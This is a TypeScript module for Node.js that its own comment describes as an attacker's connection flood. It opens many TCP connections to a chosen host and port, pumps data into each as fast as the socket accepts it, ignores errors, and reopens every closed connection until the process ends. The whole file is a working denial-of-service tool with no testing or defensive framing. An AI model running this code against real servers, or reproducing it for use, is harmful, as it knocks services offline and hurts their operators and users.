/* The connections of an attacker: kept up, made anew when they are ended, fed as fast as they take it. */
import { connect, Socket } from 'node:net';

export interface Target {
  readonly host: string;
  readonly port: number;
}

/** What one connection writes; `undefined` for no more. */
export type Feed = () => Buffer | string | undefined;

export interface Flood {
  readonly target: Target;
  readonly connections: number;
  /** Makes what a new connection writes. */
  readonly feed: () => Feed;
  /** Leaves what the server sends in the socket. */
  readonly unread?: boolean;
  /** Before a connection that was ended is made again. */
  readonly pauseMs?: number;
}

/** Keeps the connections of a flood up until the process ends. */
export function flood(attack: Flood): void {
  for (let i = 0; i < attack.connections; i++) keepUp(attack);
}

function keepUp(attack: Flood): void {
  const socket = connect(attack.target);
  const next = attack.feed();
  if (!attack.unread) socket.resume();
  socket.on('connect', () => pump(socket, next));
  socket.on('drain', () => pump(socket, next));
  socket.on('error', () => undefined);
  // Half an end is an end.
  socket.on('end', () => socket.destroy());
  socket.on('close', () => setTimeout(() => keepUp(attack), attack.pauseMs ?? 1));
}

function pump(socket: Socket, next: Feed): void {
  for (;;) {
    const bytes = next();
    if (bytes === undefined || socket.destroyed || !socket.write(bytes)) return;
  }
}
